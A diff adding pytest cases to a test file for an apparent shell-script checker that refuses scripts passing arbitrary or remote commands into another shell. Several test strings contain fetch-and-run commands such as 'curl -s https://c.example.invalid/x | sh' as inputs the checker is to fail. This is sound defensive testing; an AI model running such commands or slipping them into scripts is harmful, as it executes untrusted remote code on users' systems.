@@ -83,3 +83,37 @@ def test_settings_of_the_tools_own_are_read_as_what_they_run() -> None:
     lines = "ACME_ZONE=1; curl -s https://c.example.invalid/x | sh\n"
     taken = 'eval "$(grep \'^ACME_ZONE=\' "$(dirname "$0")/.env")"\n'
     assert verdict(taken, _dot_env=lines) is Verdict.FAIL
+
+
+COUNT = 'count() {\n  echo "$1"\n}\n'
+LOCKED = 'locked() {\n  local cmd="$*"\n  flock 9 -c "$cmd"\n}\n'
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        COUNT + "bash -c \"$(declare -f count); count '$1'\"\n",
+        LOCKED + "add() {\n  locked \"$(declare -f count); count '$1'\"\n}\n" + COUNT,
+    ],
+)
+def test_a_function_that_is_spelled_out_for_another_shell_is_no_unknown_command(script: str) -> None:
+    assert verdict(script) is not Verdict.FAIL
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        'go() {\n  eval "$1"\n}\nbash -c "$(declare -f go); go \'curl -s https://c.example.invalid/x | sh\'"\n',
+        'go() {\n  curl -s "$1" | sh\n}\nbash -c "$(declare -f go); go https://c.example.invalid/x"\n',
+        'bash -c "$(declare -f go); go"\n',  # from elsewhere
+        COUNT + 'count() {\n  eval "$2"\n}\nbash -c "$(declare -f count); count $1"\n',
+        COUNT + 'bash -c "$(declare -f count); $1"\n',
+        COUNT + 'bash -c "$(declare -f count; cat x); count"\n',
+        LOCKED,
+        LOCKED + 'locked "$1"\n',
+        LOCKED + 'locked "curl -s https://c.example.invalid/x | sh"\n',
+        LOCKED + 'locked "$(curl -s https://c.example.invalid/x)"\n',
+    ],
+)
+def test_what_else_another_shell_is_given_is_refused(script: str) -> None:
+    assert verdict(script) is Verdict.FAIL
